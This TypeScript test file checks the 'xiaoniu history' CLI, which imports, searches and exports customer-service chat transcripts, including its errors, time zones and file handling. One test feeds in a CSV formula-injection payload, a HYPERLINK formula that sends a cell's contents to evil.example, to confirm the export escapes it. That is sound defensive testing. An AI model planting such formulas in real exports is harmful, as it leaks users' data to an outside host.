import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { csvCell } from '../../main/packs/csv';
import { CJK, firstLine, foreignChinese, foreignWords } from './one-language.test-util';

/**
 * `xiaoniu history` as its user runs it: a subprocess of the compiled `bin/xiaoniu.js` (run
 * `npm run build` first if this fails with "missing"). TZ pins the agent's time zone where the
 * database has no `timezone` setting.
 */
const root = path.resolve(__dirname, '..', '..');
const bin = path.join(root, 'bin', 'xiaoniu.js');
const DAY = path.join(root, 'fixtures', 'transcripts', 'shop-day.json');
const DAY_LINES = path.join(root, 'fixtures', 'transcripts', 'shop-day.jsonl');

function tmp(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'xiaoniu-history-'));
}

function run(args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [bin, 'history', ...args], {
    encoding: 'utf8',
    env: { ...process.env, XIAONIU_LANG: 'zh-CN', TZ: 'Asia/Shanghai', ...env },
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

function tables(db: string) {
  const d = new Database(db, { readonly: true });
  const n = (t: string) => d.prepare(`SELECT count(*) FROM ${t}`).pluck().get();
  const c = { buyer: n('buyer'), message: n('message'), order_event: n('order_event'), status_change: n('status_change'), conversation_close: n('conversation_close') };
  d.close();
  return c;
}

describe('xiaoniu history', () => {
  it('imports a transcript with --json, and the same file again adds nothing', () => {
    const db = path.join(tmp(), 'x.db');
    const first = run(['import', DAY, '--json', '--db', db]);
    expect(first.code, first.err).toBe(0);
    expect(JSON.parse(first.out)).toEqual({ buyers: 4, messages: 18, orders: 2, duplicates: 0 });
    expect(tables(db)).toEqual({ buyer: 4, message: 18, order_event: 2, status_change: 3, conversation_close: 2 });
    // The JSON Lines copy of the same day is the same events: all duplicates.
    const again = run(['import', DAY_LINES, '--json', '--db', db]);
    expect(JSON.parse(again.out)).toEqual({ buyers: 0, messages: 0, orders: 0, duplicates: 25 });
    expect(tables(db)).toEqual({ buyer: 4, message: 18, order_event: 2, status_change: 3, conversation_close: 2 });
    // Without --json: one sentence in the user's language.
    const plain = run(['import', DAY, '--db', db]);
    expect(plain.out).toMatch(/^已导入：新买家 0 位，消息 0 条.*重复 25 条未导入（JSON，时区 Asia\/Shanghai）。\n$/);
    expect(run(['import', DAY, '--db', db], { XIAONIU_LANG: 'en' }).out).toMatch(/^Imported 0 new buyers, 0 messages.*25 duplicates skipped/);
  });

  it('refuses a malformed file naming the event index: exit 2, {"error"}, nothing stored', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    run(['import', DAY, '--db', db]);
    const before = tables(db);
    const events = [
      { at: '2026-03-02T09:00:00+08:00', type: 'buyer', buyer: 'new_buyer', nickname: '新客', text: '第一条新消息' },
      { at: '2026-03-02T09:00:05+08:00', type: 'order', buyer: 'new_buyer', amount: 10, paid: true },
      { at: '2026-03-02 09:01', type: 'buyer', buyer: 'new_buyer', text: '时间没有时区' },
    ];
    fs.writeFileSync(path.join(dir, 'bad.json'), JSON.stringify({ timezone: 'Asia/Shanghai', events }));
    const r = run(['import', path.join(dir, 'bad.json'), '--json', '--db', db]);
    expect(r.code).toBe(2);
    expect(Object.keys(JSON.parse(r.out))).toEqual(['error']);
    expect(JSON.parse(r.out).error).toContain('events[2]');
    expect(JSON.parse(r.out).error).toMatch(/[\u4e00-\u9fff]/);
    expect(r.err).toContain('history.badAt {"index":2');
    expect(tables(db)).toEqual(before);
    expect(JSON.parse(run(['search', '第一条新消息', '--json', '--db', db]).out)).toEqual([]);
    // Not a transcript at all (a phrase pack), and in English.
    fs.writeFileSync(path.join(dir, 'pack.csv'), '分组,快捷编码,短语内容\r\n售后,th,亲\r\n');
    const en = run(['import', path.join(dir, 'pack.csv'), '--db', db], { XIAONIU_LANG: 'en' });
    expect(en.code).toBe(2);
    expect(en.err).toMatch(/^This is not a chat history file/);
    expect(tables(db)).toEqual(before);
  });

  it('searches every conversation newest first: [{"buyer","at","sender","text"}], --limit caps', () => {
    const db = path.join(tmp(), 'x.db');
    run(['import', DAY, '--db', db]);
    const r = run(['search', '发货', '--json', '--db', db]);
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out)).toEqual([
      { buyer: 'tb_8812', at: '2026-03-01T09:22:00+08:00', sender: 'buyer', text: '付好了，麻烦快点发货' },
      { buyer: 'tb_8812', at: '2026-03-01T09:22:30+08:00', sender: 'agent', text: '好的亲，已备注优先发货 /:^_^' },
      { buyer: 'tb_8812', at: '2026-03-01T09:14:35+08:00', sender: 'agent', text: '下午4点前付款当天发货，默认中通，需要顺丰请备注（补差价）' },
      { buyer: 'tb_8812', at: '2026-03-01T09:14:10+08:00', sender: 'buyer', text: '今天拍什么时候发货？发什么快递' },
    ].sort((a, b) => b.at.localeCompare(a.at)));
    expect(JSON.parse(run(['search', '亲', '--limit', '2', '--json', '--db', db]).out).map((h: { at: string }) => h.at)).toEqual([
      '2026-03-01T14:04:30+08:00',
      '2026-03-01T12:10:10+08:00',
    ]);
    // Terms on the command line are all required; the fold makes ＬＩＬＹ-style width and case irrelevant.
    expect(JSON.parse(run(['search', '两件', '便宜', '--json', '--db', db]).out).map((h: { buyer: string }) => h.buyer)).toEqual(['lily_2019']);
    expect(JSON.parse(run(['search', '599', '--json', '--db', db]).out)).toHaveLength(1);
    expect(JSON.parse(run(['search', '５９９', '--json', '--db', db]).out)).toHaveLength(1);
    // Another time zone, from the agent's setting: the same instants, another offset.
    const d = new Database(db);
    d.prepare(`INSERT INTO setting (key, value, updated_at) VALUES ('timezone', '"Europe/Berlin"', 0)`).run();
    d.close();
    expect(JSON.parse(run(['search', '换新吧', '--json', '--db', db]).out)[0].at).toBe('2026-03-01T07:05:12+01:00');
    // Plain output: a readable line per hit, the count on stderr.
    const plain = run(['search', '换新吧', '--db', db]);
    expect(plain.out).toBe('2026-03-01 07:05:12 [tb_5566 退货的张姐] 买家: 换新吧\n');
    expect(plain.err).toBe('共 1 条\n');
  });

  it('exports json that imports into an empty database and exports to the same bytes', () => {
    const dir = tmp();
    const a = path.join(dir, 'a.db');
    const b = path.join(dir, 'b.db');
    run(['import', DAY, '--db', a]);
    const first = run(['export', path.join(dir, 'a.json'), '--json', '--db', a]);
    expect(first.code, first.err).toBe(0);
    expect(JSON.parse(first.out)).toEqual({ exported: 25, file: path.join(dir, 'a.json'), format: 'json' });
    expect(JSON.parse(run(['import', path.join(dir, 'a.json'), '--json', '--db', b]).out)).toEqual({ buyers: 4, messages: 18, orders: 2, duplicates: 0 });
    run(['export', path.join(dir, 'b.json'), '--db', b]);
    const bytes = fs.readFileSync(path.join(dir, 'a.json'));
    expect(fs.readFileSync(path.join(dir, 'b.json')).equals(bytes)).toBe(true);
    // The export is the transcript format, with the agent's offset and nothing lost.
    const doc = JSON.parse(bytes.toString('utf8'));
    expect(doc.timezone).toBe('Asia/Shanghai');
    expect(doc.events).toEqual(JSON.parse(fs.readFileSync(DAY, 'utf8')).events.map((e: { auto?: boolean }) => e));
  });

  it('exports csv for Excel (BOM, formula cells escaped as phrase packs are) and txt as a chat log, filtered by buyer and day', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    const nasty = '=HYPERLINK("http://evil.example/?q="&A1,"点我领券")';
    fs.writeFileSync(
      path.join(dir, 't.jsonl'),
      [
        '{"timezone":"Asia/Shanghai"}',
        JSON.stringify({ at: '2026-03-01T23:59:59+08:00', type: 'buyer', buyer: 'evil', nickname: '@admin', text: nasty }),
        JSON.stringify({ at: '2026-03-02T00:00:01+08:00', type: 'agent', buyer: 'evil', text: '-不要点陌生链接' }),
        JSON.stringify({ at: '2026-03-02T08:00:00+08:00', type: 'buyer', buyer: 'other', text: '在吗' }),
      ].join('\n'),
    );
    run(['import', path.join(dir, 't.jsonl'), '--db', db]);
    expect(run(['export', path.join(dir, 'h.csv'), '--buyer', 'evil', '--db', db]).code).toBe(0);
    const csv = fs.readFileSync(path.join(dir, 'h.csv'), 'utf8');
    expect(csv.startsWith('\ufeff时间（Asia/Shanghai）,买家,昵称,类型,内容\r\n')).toBe(true);
    const rows = csv.slice(1).split('\r\n');
    expect(rows[1]).toBe(['2026-03-01 23:59:59', 'evil', '@admin', '买家', nasty].map((c) => csvCell(c)).join(','));
    expect(rows[1]).toContain(`'=HYPERLINK(`);
    expect(rows[2]).toBe(`2026-03-02 00:00:01,evil,"'@admin",客服,"'-不要点陌生链接"`);
    expect(rows).toHaveLength(4);

    expect(run(['export', path.join(dir, 'day2.txt'), '--from', '2026-03-02', '--to', '2026-03-02', '--db', db]).code).toBe(0);
    expect(fs.readFileSync(path.join(dir, 'day2.txt'), 'utf8')).toBe(
      '\ufeff聊天记录（时区 Asia/Shanghai）\r\n\r\n==== 买家 evil（@admin） ====\r\n—— 2026-03-02 ——\r\n00:00:01 客服: -不要点陌生链接\r\n' +
        '\r\n==== 买家 other ====\r\n—— 2026-03-02 ——\r\n08:00:00 other: 在吗\r\n',
    );
    // A typo in --buyer is refused, not an empty file; no file is left behind.
    const typo = run(['export', path.join(dir, 'typo.json'), '--buyer', 'evi1', '--json', '--db', db]);
    expect(typo.code).toBe(2);
    expect(JSON.parse(typo.out).error).toContain('evi1');
    expect(fs.existsSync(path.join(dir, 'typo.json'))).toBe(false);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('answers usage errors with exit 1 and the usage lines', () => {
    const r = run(['export']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('xiaoniu history export 文件');
    expect(run(['search', 'x', '--limit', '0']).code).toBe(1);
    expect(run(['export', 'x.pdf', '--format', 'pdf']).code).toBe(1);
    expect(JSON.parse(run(['frobnicate', '--json']).out).error).toContain('frobnicate');
  });
});

// ───────────── one grammar, one language ─────────────

/**
 * Latin the Chinese history usage may hold: the command line itself (program, area, commands,
 * options, values), format and file names — and nothing else.
 */
const USAGE_LATIN = [
  'xiaoniu', 'history', 'import', 'export', 'search', '--format', 'json|csv|txt', '--buyer', '--from', '--to', '--limit', '--json', '--db',
  '$XIAONIU_DB', 'docs/transcripts.md', 'JSON Lines', 'JSON', 'Excel', 'YYYY-MM-DD', '.json', '.csv', '.txt', 'json', 'csv', 'txt', 'timezone', 'ID',
];

describe('xiaoniu history: its usage, in one language', () => {
  it('`xiaoniu history` alone shows the history usage on stderr and exits 1', () => {
    const zh = run([]);
    expect(zh.code).toBe(1);
    expect(zh.out).toBe('');
    expect(zh.err).toContain('xiaoniu history import 文件');
    expect(zh.err).toContain('--format json|csv|txt');
    expect(foreignWords(zh.err, USAGE_LATIN)).toEqual([]);
    const en = run([], { XIAONIU_LANG: 'en' });
    expect(en.code).toBe(1);
    expect(en.err).toContain('xiaoniu history import FILE');
    expect(en.err).toContain('Commands:');
    expect(foreignChinese(en.err, [])).toBe('');
    // With --json, still exactly one document.
    const json = run(['--json']);
    expect(json.code).toBe(1);
    expect(Object.keys(JSON.parse(json.out))).toEqual(['error']);
  });

  it('`xiaoniu history --help` (and -h) prints it on stdout and exits 0', () => {
    for (const flag of ['--help', '-h']) {
      const zh = run([flag]);
      expect(zh.code).toBe(0);
      expect(zh.out).toContain('用法：');
      expect(zh.out).toContain('xiaoniu history search 关键词...');
      expect(foreignWords(zh.out, USAGE_LATIN)).toEqual([]);
      const en = run([flag], { XIAONIU_LANG: 'en' });
      expect(en.code).toBe(0);
      expect(en.out).toContain('xiaoniu history export FILE [--format json|csv|txt] [--buyer ID]...');
      expect(foreignChinese(en.out, [])).toBe('');
    }
    // --help after a command shows the same usage.
    expect(run(['export', '--help']).out).toBe(run(['--help']).out);
  });
});

describe('xiaoniu history: usage errors are catalogue messages, then the history usage (exit 1)', () => {
  const dir = tmp();
  const db = path.join(dir, 'x.db');
  const out = (name: string) => path.join(dir, name);
  // [args after `history`, values the message quotes, a fragment it must contain]
  const cases: [string[], string[], string][] = [
    [['frobnicate'], ['history', 'frobnicate'], 'history frobnicate'],
    [['import', '--db', db], ['import'], 'import'],
    [['import', 'a.json', 'b.json'], ['b.json'], 'b.json'],
    [['import', 'a.json', '--format', 'csv'], ['import', '--format'], '--format'],
    [['search', '--db', db], ['search'], 'search'],
    [['search', 'x', '--limit', '0'], ['--limit'], '“0”'],
    [['search', 'x', '--limit', '1e3'], ['--limit'], '1e3'],
    [['search', 'x', '--bogus'], ['--bogus'], '--bogus'],
    [['search', 'x', '--json=yes'], ['--json', 'yes'], 'yes'],
    [['export', out('o.json'), '--buyer'], ['--buyer'], '--buyer'],
    [['export', out('o.json'), '--format', 'pdf'], ['--format', 'pdf', 'json', 'csv', 'txt'], 'json、csv、txt'],
    [['export', out('o.pdf')], ['.pdf', '--format', '.json', '.csv', '.txt'], '.pdf'],
    [['export', out('o.json'), '--from', '2026-02-30'], ['YYYY-MM-DD', '2026-02-30'], '2026-02-30'],
    [['export', out('o.json'), '--from', '2026-03-02', '--to', '2026-03-01'], [], '2026-03-02'],
    [['export', out('o.json'), '--to', '2026-03-01', '--to', '2026-03-02'], ['--to'], '--to'],
    [['export', out('o.json'), '--limit', '3'], ['export', '--limit'], '--limit'],
  ];

  it.each(cases)('xiaoniu history %j', (args, quoted, fragment) => {
    const zh = run(args);
    expect(zh.code, zh.err).toBe(1);
    expect(firstLine(zh.err)).toContain(fragment);
    expect(firstLine(zh.err)).toMatch(CJK);
    expect(foreignWords(firstLine(zh.err), quoted)).toEqual([]);
    // Then this area's usage, in the same language.
    expect(zh.err).toContain('\n\n用法：\n  xiaoniu history import 文件');
    expect(foreignWords(zh.err.slice(zh.err.indexOf('\n\n')), USAGE_LATIN)).toEqual([]);

    const en = run(args, { XIAONIU_LANG: 'en' });
    expect(en.code, en.err).toBe(1);
    expect(firstLine(en.err)).toContain(fragment.replace('、', ', ').replace('、', ', '));
    expect(foreignChinese(en.err, [])).toBe('');
    expect(en.err).toContain('\n\nUsage:\n  xiaoniu history import FILE');
    // Nothing was written anywhere.
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  it('with --json, a usage error is exactly {"error"} on stdout, still exit 1, the code on stderr', () => {
    const r = run(['export', out('o.json'), '--format', 'pdf', '--json']);
    expect(r.code).toBe(1);
    expect(Object.keys(JSON.parse(r.out))).toEqual(['error']);
    expect(JSON.parse(r.out).error).toBe('--format 不能是“pdf”，可用的格式：json、csv、txt。');
    expect(r.err).toBe('cli.badFormat {"value":"pdf","accepted":"json|csv|txt"}\n');
    const en = run(['export', out('o.json'), '--from', '2026-3-1', '--json'], { XIAONIU_LANG: 'en' });
    expect(en.code).toBe(1);
    expect(JSON.parse(en.out)).toEqual({ error: '"2026-3-1" is not a date; write it as YYYY-MM-DD, such as 2026-03-01.' });
  });

  it('is listed by `xiaoniu --help` as an area with its one-line description, without its usage lines', () => {
    const top = spawnSync(process.execPath, [bin, '--help'], { encoding: 'utf8', env: { ...process.env, XIAONIU_LANG: 'zh-CN' } });
    expect(top.status).toBe(0);
    expect(top.stdout).toContain('\n  history      聊天记录：导入、导出、搜索（xiaoniu history --help 查看详情）\n');
    expect(top.stdout).not.toContain('xiaoniu history import');
    const en = spawnSync(process.execPath, [bin, '--help'], { encoding: 'utf8', env: { ...process.env, XIAONIU_LANG: 'en' } });
    expect(en.stdout).toContain('\n  history      chat history: import, export, search (xiaoniu history --help for more)\n');
    expect(foreignChinese(en.stdout, [])).toBe('');
  });
});

describe('xiaoniu history: files are read and written as the rest of the CLI does', () => {
  function setup() {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    run(['import', DAY, '--db', db]);
    return { dir, db };
  }
  const listing = (dir: string) => fs.readdirSync(dir).sort();

  it('refuses to export over a directory: exit 2, one language each, nothing written', () => {
    const { dir, db } = setup();
    const target = path.join(dir, 'folder.json');
    fs.mkdirSync(target);
    const before = listing(dir);
    const zh = run(['export', target, '--db', db]);
    expect(zh.code).toBe(2);
    expect(zh.err).toBe(`不能导出到 ${target}（这是一个文件夹）：导出只写入普通文件，已有的普通文件会被替换。请换一个文件路径。\n`);
    const en = run(['export', target, '--json', '--db', db], { XIAONIU_LANG: 'en' });
    expect(en.code).toBe(2);
    expect(JSON.parse(en.out)).toEqual({
      error: `Cannot export to ${target} (it is a folder): an export only writes a regular file, replacing one that exists. Choose another path.`,
    });
    expect(en.err).toContain('cli.exportTarget');
    expect(listing(dir)).toEqual(before);
    expect(fs.readdirSync(target)).toEqual([]);
  });

  it('refuses a FIFO and a device with exit 2, and replaces a regular file keeping its permissions', () => {
    const { dir, db } = setup();
    const fifo = path.join(dir, 'pipe.txt');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const before = listing(dir);
    const r = run(['export', fifo, '--db', db], { XIAONIU_LANG: 'en' });
    expect(r.code).toBe(2);
    expect(r.err).toContain('it is a named pipe (FIFO)');
    expect(fs.lstatSync(fifo).isFIFO()).toBe(true);
    expect(listing(dir)).toEqual(before);
    expect(run(['export', '/dev/null', '--db', db]).err).toContain('这是一个设备');

    const kept = path.join(dir, 'kept.json');
    fs.writeFileSync(kept, 'old', { mode: 0o600 });
    fs.chmodSync(kept, 0o600);
    expect(run(['export', kept, '--db', db]).code).toBe(0);
    expect(JSON.parse(fs.readFileSync(kept, 'utf8')).events).toHaveLength(25);
    expect(fs.statSync(kept).mode & 0o777).toBe(0o600);
    expect(listing(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('refuses to import what is not a regular file, or is missing, naming why in one language', () => {
    const { dir, db } = setup();
    const cases: [string, string, string][] = [
      [dir, '这是一个文件夹', 'it is a folder'],
      [path.join(dir, 'missing.json'), '文件或文件夹不存在', 'no such file or folder'],
      ['/dev/zero', '这是一个设备', 'it is a device'],
    ];
    for (const [file, zhReason, enReason] of cases) {
      const zh = run(['import', file, '--db', db]);
      expect(zh.code, file).toBe(2);
      expect(zh.err).toBe(`无法读取文件 ${file}（${zhReason}）。\n`);
      const en = run(['import', file, '--db', db], { XIAONIU_LANG: 'en' });
      expect(en.err).toBe(`Cannot read ${file} (${enReason}).\n`);
    }
    const fifo = path.join(dir, 'pipe.json');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    // Refused at once instead of waiting for a writer.
    const r = spawnSync(process.execPath, [bin, 'history', 'import', fifo, '--db', db], {
      encoding: 'utf8',
      env: { ...process.env, XIAONIU_LANG: 'en' },
      timeout: 10_000,
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(`Cannot read ${fifo} (it is a named pipe (FIFO)).\n`);
  });
});

describe('xiaoniu history: every message in the user’s language', () => {
  // Values a Chinese message may quote.
  const QUOTED = ['JSON Lines', 'JSON', 'Asia/Shanghai', 'events', 'timezone', 'ISO-8601', 'YYYY-MM-DD', 'UTF-8', 'IANA', 'buyer', 'agent', 'status', 'close', 'order'];

  it('says what it did, in Chinese and in English', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    const imported = [run(['import', DAY, '--db', db]), run(['import', DAY, '--db', db], { XIAONIU_LANG: 'en' })];
    const exported = [run(['export', path.join(dir, 'a.json'), '--db', db]), run(['export', path.join(dir, 'b.json'), '--db', db], { XIAONIU_LANG: 'en' })];
    const searched = [run(['search', '换新吧', '--db', db]), run(['search', '换新吧', '--db', db], { XIAONIU_LANG: 'en' })];
    const none = [run(['search', 'zzzz', '--db', db]), run(['search', 'zzzz', '--db', db], { XIAONIU_LANG: 'en' })];
    const [zhImport, enImport] = imported.map((r) => r.out);
    expect(zhImport).toMatch(/^已导入：新买家 4 位，消息 18 条/);
    expect(enImport).toMatch(/^Imported 0 new buyers, 0 messages/);
    expect(exported[0]!.out).toBe(`已导出 25 个事件到 ${path.join(dir, 'a.json')}（时区 Asia/Shanghai）。\n`);
    expect(exported[1]!.out).toBe(`Exported 25 events to ${path.join(dir, 'b.json')} (time zone Asia/Shanghai).\n`);
    expect(searched[0]!.err).toBe('共 1 条\n');
    expect(searched[1]!.out).toMatch(/ \[tb_5566 退货的张姐\] buyer: 换新吧\n$/);
    expect(none[0]!.err).toBe('没有找到聊天记录。\n');
    expect(none[1]!.err).toBe('No chat history found.\n');
    for (const zh of [imported[0]!.out, exported[0]!.out, searched[0]!.err, none[0]!.err]) {
      expect(foreignWords(zh, [...QUOTED, dir, 'a.json'])).toEqual([]);
    }
    for (const en of [imported[1]!.out, exported[1]!.out, none[1]!.err]) expect(foreignChinese(en, [])).toBe('');
  });

  it('refuses a malformed file, an unknown buyer and a file that is not a transcript, in either language', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    run(['import', DAY, '--db', db]);
    fs.writeFileSync(path.join(dir, 'bad.json'), JSON.stringify({ timezone: 'Asia/Shanghai', events: [{ at: '2026-03-02 09:01', type: 'buyer', buyer: 'b', text: 'x' }] }));
    fs.writeFileSync(path.join(dir, 'pack.csv'), '分组,快捷编码,短语内容\r\n售后,th,亲\r\n');
    const cases: string[][] = [
      ['import', path.join(dir, 'bad.json'), '--db', db],
      ['import', path.join(dir, 'pack.csv'), '--db', db],
      ['export', path.join(dir, 'o.json'), '--buyer', 'nobody', '--db', db],
    ];
    for (const args of cases) {
      const zh = run(args);
      expect(zh.code, zh.err).toBe(2);
      expect(zh.err).toMatch(CJK);
      expect(foreignWords(zh.err, [...QUOTED, '2026-03-02 09:01', '2026-03-01T10:00:05+08:00', 'nobody', '{"timezone": "Asia/Shanghai", "events": [...]}'])).toEqual([]);
      const en = run(args, { XIAONIU_LANG: 'en' });
      expect(en.code).toBe(2);
      expect(foreignChinese(en.err, [])).toBe('');
    }
    expect(fs.existsSync(path.join(dir, 'o.json'))).toBe(false);
  });
});
